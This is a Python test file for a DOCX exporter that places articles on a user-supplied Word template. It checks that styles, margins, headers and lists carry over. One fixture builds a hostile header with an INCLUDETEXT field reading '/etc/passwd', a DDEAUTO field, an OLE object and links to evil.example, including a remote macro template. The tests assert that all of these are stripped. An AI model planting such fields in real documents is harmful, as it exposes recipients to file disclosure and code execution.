"""Word files on the styles, headers and page set-up of another: `base` of the Exporter."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as Written
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.oxml.text.paragraph import CT_P
from docx.shared import Pt, RGBColor
from PIL import Image

from exporter.article import Article
from exporter.diagnostics import DesignError, Diagnostic, UsageError
from exporter.pipeline import Exporter
from exporter.roundtrip.word import read_docx
from tests.conftest import Failures
from tests.support.pages import text

ARTICLE = Article.model_validate(
    {
        "headline": "Envoys prepare a summit",
        "lede": "Preparations are in motion.",
        "key_points": ["A summit is being prepared."],
        "sections": [
            {
                "heading": "What next?",
                "blocks": [
                    "Envoys meet in **May**.[^1]".replace("[^1]", "^[A note.]"),
                    {"type": "list", "items": [{"text": "a"}, {"text": "b"}]},
                    {"type": "list", "ordered": True, "items": [{"text": "c"}, {"text": "d"}]},
                    "Between.",
                    {"type": "list", "ordered": True, "items": [{"text": "e"}, {"text": "f"}]},
                    {"type": "table", "header": ["x", "y"], "rows": [["1", "2"]]},
                ],
            }
        ],
    }
)
PURPLE = RGBColor(0x80, 0x00, 0x60)
PAGE = {"w": 11000, "h": 15000}
MARGINS = {"top": 1700, "bottom": 1400, "left": 1900, "right": 1100, "header": 600, "footer": 500}


def house() -> Written:
    """A house's template: a typeface, a heading, a key point, paper, a logo and a footer."""
    document = Document()
    normal, heading = document.styles["Normal"], document.styles["Heading 1"]
    normal.font.name, normal.font.size = "Georgia", Pt(12)
    heading.font.name, heading.font.color.rgb = "Arial", PURPLE
    document.styles.add_style("Key Point", WD_STYLE_TYPE.PARAGRAPH).font.italic = True
    document.styles.add_style("House Note", WD_STYLE_TYPE.PARAGRAPH)
    section = document.sections[0]._sectPr
    for name, value in PAGE.items():
        next(section.iter(qn("w:pgSz"))).set(qn(f"w:{name}"), str(value))
    for name, value in MARGINS.items():
        next(section.iter(qn("w:pgMar"))).set(qn(f"w:{name}"), str(value))
    document.sections[0].header.paragraphs[0].add_run().add_picture(logo())
    for drawing in document.sections[0].header._element.iter(qn("wp:docPr")):
        drawing.set("descr", "The House")
    document.sections[0].footer.paragraphs[0].text = "For members of the House"
    document.add_paragraph("What the base says is not printed.")
    return document


def logo() -> io.BytesIO:
    """A picture as PNG."""
    made = io.BytesIO()
    Image.new("RGB", (300, 90), (128, 0, 96)).save(made, "PNG")
    made.seek(0)
    return made


def exported(document: Written, folder: Path) -> tuple[bytes, tuple[Diagnostic, ...]]:
    """The article as DOCX on a base, and what was told of the base."""
    path = folder / "house.docx"
    document.save(str(path))
    result = Exporter(base=path).export(ARTICLE, editions=["brief"], formats=["docx"])
    told = tuple(one for one in result.diagnostics if one.place and one.place.file == str(path))
    return result.renditions[0].data, told


def codes(told: Sequence[Diagnostic]) -> list[str]:
    return [one.code for one in told if one.code != "base-lacks-styles"]


def paragraph(document: Written, words: str) -> CT_P:
    return next(one._p for one in document.paragraphs if words in one.text)


def said(element: object) -> str:
    return "".join(one.text or "" for one in element.iter(qn("w:t")))  # type: ignore[attr-defined]


def test_styles_of_the_same_name_are_the_base_s_and_others_stay_ours(tmp_path: Path) -> None:
    data, told = exported(house(), tmp_path)
    made = Document(io.BytesIO(data))
    assert made.styles["Normal"].font.name == "Georgia"
    assert made.styles["Heading 1"].font.color.rgb == PURPLE
    assert made.styles["Key Point"].font.italic
    assert "House Note" in [style.name for style in made.styles]
    heading = paragraph(made, "What next?")
    assert heading.find(f"{qn('w:pPr')}/{qn('w:spacing')}") is None
    assert heading.find(f".//{qn('w:sz')}") is None
    assert made.styles["Lede"].base_style.name == "Normal"
    (lacking,) = told
    assert lacking.code == "base-lacks-styles"
    assert "Lede" in lacking.message
    assert "Key Point," not in lacking.message


def test_the_base_s_paper_margins_and_headers_are_the_file_s(
    tmp_path: Path, libreoffice_pdf: Callable[[Sequence[Path]], list[Path]]
) -> None:
    data, _ = exported(house(), tmp_path)
    made = Document(io.BytesIO(data))
    sections = list(made.element.body.iter(qn("w:sectPr")))
    for section in sections:
        size, margins = section.find(qn("w:pgSz")), section.find(qn("w:pgMar"))
        assert {name: int(size.get(qn(f"w:{name}"))) for name in PAGE} == PAGE
        said_there = {name: int(margins.get(qn(f"w:{name}"))) for name in MARGINS}
        assert said_there == pytest.approx(MARGINS, abs=1)
    header = made.sections[0].header
    (relation,) = [one for one in header.part.rels.values() if one.reltype == RT.IMAGE]
    assert relation.target_part.blob == logo().getvalue()
    (tmp_path / "made.docx").write_bytes(data)
    printed = text(libreoffice_pdf([tmp_path / "made.docx"])[0].read_bytes())
    assert "For members of the House" in printed
    assert "Envoys prepare a summit" in printed
    assert "What the base says" not in printed


def test_the_text_is_set_for_the_base_s_measure(tmp_path: Path) -> None:
    made = Document(io.BytesIO(exported(house(), tmp_path)[0]))
    measure = PAGE["w"] - MARGINS["left"] - MARGINS["right"]
    widths = [int(one.get(qn("w:w"))) for one in made.element.body.iter(qn("w:tblW"))]
    assert max(widths) == pytest.approx(measure, abs=20)


def test_lists_count_as_before_and_look_as_the_base_s(tmp_path: Path) -> None:
    data, _ = exported(house(), tmp_path)
    made = Document(io.BytesIO(data))
    for first, second in (("c", "d"), ("e", "f")):
        numbers = [list_of(made, word) for word in (first, second)]
        assert numbers[0] == numbers[1] != None  # noqa: E711
    assert list_of(made, "c") != list_of(made, "e")
    numbering = made.part.numbering_part.element
    lists = {one.get(qn("w:numId")): one for one in numbering.iter(qn("w:num"))}
    restart = lists[list_of(made, "e")].find(f".//{qn('w:startOverride')}")
    assert restart.get(qn("w:val")) == "1"
    definition = lists[list_of(made, "e")].find(qn("w:abstractNumId")).get(qn("w:val"))
    like = made.styles["List Number"].element.find(f".//{qn('w:numId')}").get(qn("w:val"))
    assert lists[like].find(qn("w:abstractNumId")).get(qn("w:val")) == definition
    imported = read_docx(data)
    assert imported.article == ARTICLE
    assert imported.edits == ()


def list_of(document: Written, words: str) -> str:
    element = next(one for one in document.element.body.iter(qn("w:p")) if said(one) == words)
    return str(element.find(f".//{qn('w:numId')}").get(qn("w:val")))


def test_a_file_on_a_base_is_valid_and_comes_back_as_it_went_out(
    tmp_path: Path, ooxml_failures: Failures, audit_failures: Failures
) -> None:
    data, _ = exported(house(), tmp_path)
    (tmp_path / "made.docx").write_bytes(data)
    assert ooxml_failures([tmp_path / "made.docx"]) == []
    assert audit_failures([tmp_path / "made.docx"]) == []
    assert read_docx(data).article == ARTICLE
    again = Exporter(base=tmp_path / "house.docx").export(
        ARTICLE, editions=["brief"], formats=["docx"]
    )
    assert again.renditions[0].data == data


def test_the_pdf_beside_it_is_that_of_the_house_without_a_base(tmp_path: Path) -> None:
    house().save(str(tmp_path / "house.docx"))
    both = Exporter(base=tmp_path / "house.docx").export(ARTICLE, editions=["brief"])
    plain = Exporter().export(ARTICLE, editions=["brief"], formats=["pdf"])
    made = {one.format: one.data for one in both.renditions}
    assert made.keys() == {"pdf", "docx"}
    assert made["pdf"] == plain.renditions[0].data
    assert tmp_path / "house.docx" in both.inputs
    with zipfile.ZipFile(io.BytesIO(made["docx"])) as archive:
        items = [archive.read(name) for name in archive.namelist() if "customXml/item" in name]
    assert any(b"house.docx" in item for item in items)


HEADER = """<w:hdr {ns} xmlns:v="urn:schemas-microsoft-com:vml"
 xmlns:o="urn:schemas-microsoft-com:office:office">
 <w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>A link</w:t></w:r></w:hyperlink>
  <w:r><w:fldChar w:fldCharType="begin"/></w:r>
  <w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r>
  <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>
  <w:r><w:fldChar w:fldCharType="end"/></w:r>
  <w:fldSimple w:instr="DDEAUTO excel x"><w:r><w:t> too</w:t></w:r></w:fldSimple>
  <w:fldSimple w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple>
  <w:r><w:object><o:OLEObject r:id="rIdLink"/></w:object></w:r>
  <w:r><w:pict><v:shape><v:imagedata r:id="rIdPicture"/></v:shape></w:pict></w:r></w:p>
</w:hdr>"""


def acting() -> Written:
    """A base with a header that reaches out of the file, and a template of its own."""
    document = house()
    part = document.sections[0].header.part
    part.rels.add_relationship(RT.HYPERLINK, "https://evil.example", "rIdLink", is_external=True)
    part.rels.add_relationship(
        RT.IMAGE, "https://evil.example/p.png", "rIdPicture", is_external=True
    )
    part._element = parse_xml(HEADER.format(ns=nsdecls("w", "r")))
    document.settings.element.append(
        parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="rId99"/>')
    )
    settings = document.part._settings_part
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    settings.rels.add_relationship(kind, "https://evil.example/t.dotm", "rId99", is_external=True)
    return document


def test_nothing_that_acts_or_reaches_out_comes_along_and_it_is_told(tmp_path: Path) -> None:
    data, told = exported(acting(), tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not any(b"evil.example" in part for part in parts.values())
    (header,) = [part for name, part in parts.items() if name.startswith("word/header-base")]
    for gone in (b"INCLUDETEXT", b"DDEAUTO", b"OLEObject", b"imagedata", b"hyperlink"):
        assert gone not in header
    for kept in (b"A link", b"shown", b"too", b"PAGE"):
        assert kept in header
    assert not any("attachedTemplate" in part.decode(errors="ignore") for part in parts.values())
    left_out = [one.message for one in told if one.code == "base-left-out"]
    for what in ("its own template", "a link", "a field that acts", "an object", "elsewhere"):
        assert any(what in message for message in left_out), what


def test_macros_stay_in_the_base_and_are_told(tmp_path: Path) -> None:
    document = house()
    document.save(str(tmp_path / "plain.docx"))
    with zipfile.ZipFile(tmp_path / "plain.docx", "a") as archive:
        archive.writestr("word/vbaProject.bin", b"macro")
    path = tmp_path / "plain.docx"
    result = Exporter(base=path).export(ARTICLE, editions=["brief"], formats=["docx"])
    with zipfile.ZipFile(io.BytesIO(result.renditions[0].data)) as archive:
        assert not any("vba" in name for name in archive.namelist())
    assert any("macros" in one.message for one in result.diagnostics)


def test_a_style_of_another_kind_is_told_and_ours_stands(tmp_path: Path) -> None:
    document = house()
    document.styles.add_style("Lede", WD_STYLE_TYPE.CHARACTER)
    data, told = exported(document, tmp_path)
    assert "base-style-unlike" in codes(told)
    assert read_docx(data).article.lede == ARTICLE.lede


def test_of_several_sections_the_last_one_counts_and_it_is_told(tmp_path: Path) -> None:
    document = house()
    document.add_section()
    data, told = exported(document, tmp_path)
    assert codes(told) == ["base-sections"]
    footer = Document(io.BytesIO(data)).sections[0].footer  # which the last one has of the first
    assert footer.paragraphs[0].text == "For members of the House"


def test_a_template_of_ours_is_a_base_too(tmp_path: Path) -> None:
    whole = Exporter(theme="parliament").export(ARTICLE, editions=["brief"], formats=["docx"])
    (tmp_path / "ours.docx").write_bytes(whole.renditions[0].data)
    exporter = Exporter(theme="parliament", base=tmp_path / "ours.docx")
    made = exporter.export(ARTICLE, editions=["brief"], formats=["docx"])
    before, after = (
        Document(io.BytesIO(one.renditions[0].data)).styles.element for one in (whole, made)
    )
    names = [[one.name_val for one in styles.style_lst] for styles in (before, after)]
    assert set(names[0]) == set(names[1])
    assert len(names[1]) == len(set(names[1]))
    assert read_docx(made.renditions[0].data).article == ARTICLE


def test_a_base_without_headers_leaves_ours(tmp_path: Path) -> None:
    data, _ = exported(Document(), tmp_path)
    footer = Document(io.BytesIO(data)).sections[0].first_page_footer._element
    assert "PAGE" in "".join(one.text or "" for one in footer.iter(qn("w:instrText")))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "encrypted-or-old"),
        (b"PK\x03\x04 cut short", "damaged-docx"),
        (b"%PDF-1.7", "not-a-docx"),
    ],
)
def test_a_file_that_is_no_base_is_refused_as_a_template_is(
    data: bytes, code: str, tmp_path: Path
) -> None:
    (tmp_path / "house.docx").write_bytes(data)
    with pytest.raises(DesignError) as caught:
        Exporter(base=tmp_path / "house.docx")
    assert caught.value.exit_code == 4
    assert [one.code for one in caught.value.diagnostics] == [code]


def test_a_base_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(DesignError, match=r"house\.docx cannot be read"):
        Exporter(base=tmp_path / "house.docx")


def test_a_base_is_for_word_files_only(tmp_path: Path) -> None:
    house().save(str(tmp_path / "house.docx"))
    with pytest.raises(UsageError, match="only a Word file has a base"):
        Exporter(base=tmp_path / "house.docx").export(ARTICLE, formats=["pdf"])
